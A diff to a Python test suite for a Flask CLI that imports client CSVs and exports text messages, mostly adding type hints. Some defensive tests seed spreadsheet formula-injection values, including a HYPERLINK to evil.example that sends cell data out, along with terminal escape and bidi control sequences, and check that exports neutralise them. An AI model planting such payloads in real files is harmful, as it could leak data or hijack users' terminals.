@@ -6,17 +6,31 @@ import csv
 import io
 import json
 from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import cast
 
 import pytest
 from click.testing import Result
+from flask import Flask
 from flask.testing import FlaskCliRunner
-from sqlalchemy import select
+from sqlalchemy import Table, select
 from sqlalchemy.exc import StatementError
 from sqlalchemy.orm import Session
 
 from botapp.models import AuditEvent, Client, Direction, Message, MessageStatus, Office
-from tests.support import ALEX, LUCIA, STRANGER, WriteCsv, botapp, client_by_phone, count, fresh
+from tests.support import (
+    ALEX,
+    LUCIA,
+    STRANGER,
+    MakeApp,
+    WriteCsv,
+    botapp,
+    client_by_phone,
+    count,
+    fresh,
+)
 
+MESSAGES = cast(Table, Message.__table__)  # for plain UPDATEs, as botapp writes them
 HEADER = "external_id,first_name,last_name,phone,language,timezone,specialist_email\n"
 
 
@@ -28,7 +42,9 @@ def import_clients(runner: FlaskCliRunner, tmp_csv: WriteCsv, content: str, *ext
     return botapp(runner, "import", "clients", str(tmp_csv(content)), *extra)
 
 
-def test_a_good_file_is_imported_into_the_office(runner, demo, tmp_csv):
+def test_a_good_file_is_imported_into_the_office(
+    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv
+) -> None:
     result = import_clients(
         runner,
         tmp_csv,
@@ -49,7 +65,9 @@ def test_a_good_file_is_imported_into_the_office(runner, demo, tmp_csv):
     assert rosa.office.name == "Chicago Loop Office"
 
 
-def test_importing_again_updates_by_external_id_instead_of_duplicating(runner, demo, tmp_csv):
+def test_importing_again_updates_by_external_id_instead_of_duplicating(
+    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv
+) -> None:
     row = "VR-1,Marcus,{},3125550150,en,America/Chicago,\n"
     assert import_clients(runner, tmp_csv, HEADER + row.format("Bell")).exit_code == 0
     before = count(demo, Client)
@@ -60,7 +78,9 @@ def test_importing_again_updates_by_external_id_instead_of_duplicating(runner, d
     assert client_by_id(demo, "VR-1").last_name == "Bell-Young"
 
 
-def test_bad_rows_are_reported_by_line_and_the_good_rows_still_imported(runner, demo, tmp_csv):
+def test_bad_rows_are_reported_by_line_and_the_good_rows_still_imported(
+    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv
+) -> None:
     result = import_clients(
         runner,
         tmp_csv,
@@ -96,7 +116,9 @@ def test_bad_rows_are_reported_by_line_and_the_good_rows_still_imported(runner, 
     assert client_by_id(demo, "DEMO-1001").phone == ALEX
 
 
-def test_blank_lines_count_like_spreadsheet_rows_and_stray_values_are_caught(runner, demo, tmp_csv):
+def test_blank_lines_count_like_spreadsheet_rows_and_stray_values_are_caught(
+    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv
+) -> None:
     result = import_clients(
         runner, tmp_csv, HEADER + "\n,,,,,,\n" + "VR-1,Ann,Lee,3125550150,en,UTC,,oops\n"
     )
@@ -104,8 +126,9 @@ def test_blank_lines_count_like_spreadsheet_rows_and_stray_values_are_caught(run
     assert "line 4: more values than columns" in result.output
 
 
-def test_a_nul_character_rejects_its_row_by_line_like_any_bad_value(runner, demo, tmp_csv, caplog):
-    # On PostgreSQL, which cannot store a NUL, it was a traceback and nothing imported.
+def test_a_nul_character_rejects_its_row_by_line_like_any_bad_value(
+    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv, caplog: pytest.LogCaptureFixture
+) -> None:
     before = count(demo, Client)
     result = import_clients(
         runner,
@@ -128,7 +151,9 @@ def test_a_nul_character_rejects_its_row_by_line_like_any_bad_value(runner, demo
     assert "3125550151" not in caplog.text and "Diaz" not in caplog.text
 
 
-def test_a_missing_column_stops_the_import_before_anything_is_written(runner, demo, tmp_csv):
+def test_a_missing_column_stops_the_import_before_anything_is_written(
+    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv
+) -> None:
     before = count(demo, Client)
     result = import_clients(
         runner, tmp_csv, "external_id,first_name,last_name,phone\nVR-1,Ann,Lee,3125550150\n"
@@ -138,7 +163,9 @@ def test_a_missing_column_stops_the_import_before_anything_is_written(runner, de
     assert count(demo, Client) == before
 
 
-def test_an_unknown_column_is_named_in_a_warning_and_the_rows_still_imported(runner, demo, tmp_csv):
+def test_an_unknown_column_is_named_in_a_warning_and_the_rows_still_imported(
+    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv
+) -> None:
     result = import_clients(
         runner,
         tmp_csv,
@@ -149,7 +176,9 @@ def test_an_unknown_column_is_named_in_a_warning_and_the_rows_still_imported(run
     assert result.output.splitlines()[:2] == ["unknown column ignored: Notes", "1 client imported"]
 
 
-def test_a_bom_and_non_ascii_names_are_fine(runner, demo, tmp_csv):
+def test_a_bom_and_non_ascii_names_are_fine(
+    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv
+) -> None:
     result = import_clients(
         runner,
         tmp_csv,
@@ -164,7 +193,9 @@ def test_a_bom_and_non_ascii_names_are_fine(runner, demo, tmp_csv):
     assert client_by_id(demo, "VR-2").first_name == "Zoé"
 
 
-def test_a_semicolon_separated_file_from_a_spanish_excel_is_read(runner, demo, tmp_csv):
+def test_a_semicolon_separated_file_from_a_spanish_excel_is_read(
+    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv
+) -> None:
     result = import_clients(
         runner, tmp_csv, HEADER.replace(",", ";") + "VR-1;Ana;Peña;3125550150;es;America/Chicago;\n"
     )
@@ -172,7 +203,9 @@ def test_a_semicolon_separated_file_from_a_spanish_excel_is_read(runner, demo, t
     assert client_by_id(demo, "VR-1").last_name == "Peña"
 
 
-def test_a_file_that_is_not_utf8_is_refused_with_a_clear_message(runner, demo, tmp_path):
+def test_a_file_that_is_not_utf8_is_refused_with_a_clear_message(
+    runner: FlaskCliRunner, demo: Session, tmp_path: Path
+) -> None:
     path = tmp_path / "latin1.csv"
     path.write_bytes((HEADER + "VR-1,José,Lee,3125550150,es,UTC,\n").encode("latin-1"))
     before = count(demo, Client)
@@ -183,7 +216,9 @@ def test_a_file_that_is_not_utf8_is_refused_with_a_clear_message(runner, demo, t
     assert count(demo, Client) == before
 
 
-def test_a_missing_file_or_office_is_said_plainly(runner, app, tmp_path, tmp_csv):
+def test_a_missing_file_or_office_is_said_plainly(
+    runner: FlaskCliRunner, app: Flask, tmp_path: Path, tmp_csv: WriteCsv
+) -> None:
     result = botapp(runner, "import", "clients", str(tmp_path / "nope.csv"))
     assert result.exit_code == 2 and "cannot read" in result.output
     result = import_clients(runner, tmp_csv, HEADER + "VR-1,Ann,Lee,3125550150,en,UTC,\n")
@@ -191,7 +226,7 @@ def test_a_missing_file_or_office_is_said_plainly(runner, app, tmp_path, tmp_csv
     assert "no office: run `botapp seed-demo` or create one" in result.output
 
 
-def test_office_is_chosen_by_name(runner, demo, tmp_csv):
+def test_office_is_chosen_by_name(runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv) -> None:
     with demo.begin():
         office = demo.scalars(select(Office)).one()
         demo.add(Office(agency_id=office.agency_id, name="Rockford Office"))
@@ -211,7 +246,9 @@ def test_office_is_chosen_by_name(runner, demo, tmp_csv):
     assert client_by_id(demo, "VR-2").office.name == "Chicago Loop Office"
 
 
-def test_staff_read_the_report_in_the_default_locale(make_app, demo, tmp_csv):
+def test_staff_read_the_report_in_the_default_locale(
+    make_app: MakeApp, demo: Session, tmp_csv: WriteCsv
+) -> None:
     runner = make_app(DEFAULT_LOCALE="es").test_cli_runner()
     result = import_clients(
         runner, tmp_csv, HEADER + "VR-1,Ann,Lee,555,en,UTC,\nVR-2,Ana,Peña,3125550151,es,UTC,\n"
@@ -259,7 +296,9 @@ def export(runner: FlaskCliRunner, *args: str) -> Result:
     return botapp(runner, "export", "messages", "--by", "dana.reed@demo.example", *args)
 
 
-def test_one_clients_texts_export_as_csv_oldest_first(runner, texts):
+def test_one_clients_texts_export_as_csv_oldest_first(
+    runner: FlaskCliRunner, texts: Session
+) -> None:
     result = export(runner, "--client", "(312) 555-0142")
     assert result.exit_code == 0, result.output
     assert result.stderr == "2 messages exported\n"
@@ -284,7 +323,9 @@ def test_one_clients_texts_export_as_csv_oldest_first(runner, texts):
     }
 
 
-def test_one_clients_texts_export_as_json_with_text_unescaped(runner, texts):
+def test_one_clients_texts_export_as_json_with_text_unescaped(
+    runner: FlaskCliRunner, texts: Session
+) -> None:
     result = export(runner, "--client", LUCIA, "--format", "json")
     assert result.exit_code == 0
     assert "¿Puedo cambiar mi cita? 🙏" in result.stdout
@@ -294,7 +335,9 @@ def test_one_clients_texts_export_as_json_with_text_unescaped(runner, texts):
     assert row["error_code"] is None
 
 
-def test_everyones_texts_export_to_a_file_without_unmatched_numbers(runner, texts, tmp_path):
+def test_everyones_texts_export_to_a_file_without_unmatched_numbers(
+    runner: FlaskCliRunner, texts: Session, tmp_path: Path
+) -> None:
     out = tmp_path / "all.json"
     result = export(runner, "--format", "json", "--output", str(out))
     assert result.exit_code == 0 and result.stdout == ""
@@ -303,11 +346,13 @@ def test_everyones_texts_export_to_a_file_without_unmatched_numbers(runner, text
     assert rows[0]["body"] == '=HYPERLINK("http://x")'  # only CSV guards against formulas
 
 
-def test_no_csv_column_can_run_as_a_spreadsheet_formula(runner, texts):
+def test_no_csv_column_can_run_as_a_spreadsheet_formula(
+    runner: FlaskCliRunner, texts: Session
+) -> None:
     alex = client_by_id(texts, "DEMO-1001")
     alex.external_id = '=HYPERLINK("http://evil.example/?"&A1,"open")'
     texts.execute(
-        Message.__table__.update()
+        MESSAGES.update()
         .where(Message.twilio_sid == "SM2")
         .values(message_key="@SUM(1)", error_code="-2+3", encoding="\tgsm7")
     )
@@ -327,12 +372,10 @@ def test_no_csv_column_can_run_as_a_spreadsheet_formula(runner, texts):
     assert unguarded == {ALEX}  # a plain number (the phone) cannot run, and stays E.164
 
 
-def test_a_status_is_one_botapp_knows_so_no_formula_can_be_stored_in_it(texts):
+def test_a_status_is_one_botapp_knows_so_no_formula_can_be_stored_in_it(texts: Session) -> None:
     with pytest.raises(StatementError, match="is not among the defined enum values"):
         texts.execute(
-            Message.__table__.update()
-            .where(Message.twilio_sid == "SM2")
-            .values(status="\tdelivered")
+            MESSAGES.update().where(Message.twilio_sid == "SM2").values(status="\tdelivered")
         )
     texts.rollback()
     assert texts.scalars(select(Message.status).where(Message.twilio_sid == "SM2")).one() in set(
@@ -340,7 +383,9 @@ def test_a_status_is_one_botapp_knows_so_no_formula_can_be_stored_in_it(texts):
     )
 
 
-def test_an_unknown_or_malformed_client_phone_is_a_clear_error(runner, texts):
+def test_an_unknown_or_malformed_client_phone_is_a_clear_error(
+    runner: FlaskCliRunner, texts: Session
+) -> None:
     result = export(runner, "--client", "312-555-0199")
     assert result.exit_code == 1
     assert result.output == "no client has the phone number +*******0199\n"
@@ -349,7 +394,9 @@ def test_an_unknown_or_malformed_client_phone_is_a_clear_error(runner, texts):
     assert count(texts, AuditEvent) == 0
 
 
-def test_every_export_is_audited_without_bodies_or_full_numbers(runner, texts, monkeypatch):
+def test_every_export_is_audited_without_bodies_or_full_numbers(
+    runner: FlaskCliRunner, texts: Session, monkeypatch: pytest.MonkeyPatch
+) -> None:
     assert export(runner, "--client", ALEX).exit_code == 0
     monkeypatch.setattr("getpass.getuser", lambda: "jcarter")
     assert botapp(runner, "export", "messages").exit_code == 0
@@ -360,9 +407,11 @@ def test_every_export_is_audited_without_bodies_or_full_numbers(runner, texts, m
     ]
 
 
-def test_an_export_printed_on_a_terminal_cannot_drive_it(runner, texts, monkeypatch):
+def test_an_export_printed_on_a_terminal_cannot_drive_it(
+    runner: FlaskCliRunner, texts: Session, monkeypatch: pytest.MonkeyPatch
+) -> None:
     texts.execute(
-        Message.__table__.update()
+        MESSAGES.update()
         .where(Message.twilio_sid == "SM2")
         .values(body="ok\x1b]0;owned\x07\x9b2J\u202eevil")
     )
